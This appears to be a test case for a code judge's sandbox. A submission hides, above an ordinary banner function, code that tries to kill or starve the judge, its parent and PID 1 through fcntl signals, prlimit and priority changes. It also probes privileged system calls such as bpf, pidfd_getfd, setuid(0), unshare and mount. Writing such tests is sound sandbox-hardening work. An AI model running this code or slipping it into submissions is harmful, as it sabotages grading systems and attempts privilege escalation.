# attack: D-3, D-4, D-5, D-7, D-8 Sends signals by fcntl, limits and slows others, and tries rare system calls.
# verdict: full points
# needs: 2
# cell: text
import ctypes
import fcntl
import os
import resource
import signal

libc = ctypes.CDLL(None, use_errno=True)
victims = (int("@PID@"), int("@JUDGE@"), os.getppid(), 1)
reading, writing = os.pipe()
for victim in victims:
    for attempt in (
        lambda: fcntl.fcntl(reading, fcntl.F_SETOWN, victim),
        lambda: fcntl.fcntl(reading, 10, signal.SIGKILL),
        lambda: fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC),
        lambda: os.write(writing, b"x"),
        lambda: resource.prlimit(victim, resource.RLIMIT_CPU, (1, 1)) if victim > 1 else None,
        lambda: os.sched_setaffinity(victim, {0}),
        lambda: os.setpriority(os.PRIO_PROCESS, victim, 19),
        lambda: fcntl.ioctl(0, 0x5412, b"x"),
        lambda: libc.syscall(425, 8, 0),  # io_uring_setup
        lambda: libc.syscall(321, 0, 0, 0),  # bpf
        lambda: libc.syscall(250, 0, 0, 0),  # keyctl
        lambda: libc.syscall(323, 0),  # userfaultfd
        lambda: libc.unshare(0x10000000),
        lambda: libc.syscall(434, victim, 0),  # pidfd_open
        lambda: libc.syscall(438, victim, 0, 0),  # pidfd_getfd
        lambda: libc.setuid(0),
        lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
        lambda: os.chroot("/"),
    ):
        try:
            attempt()
        except (OSError, ValueError):
            pass

def banner(word):
    line = "*" * (len(word) + 2)
    return f"{line}\n*{word}*\n{line}"
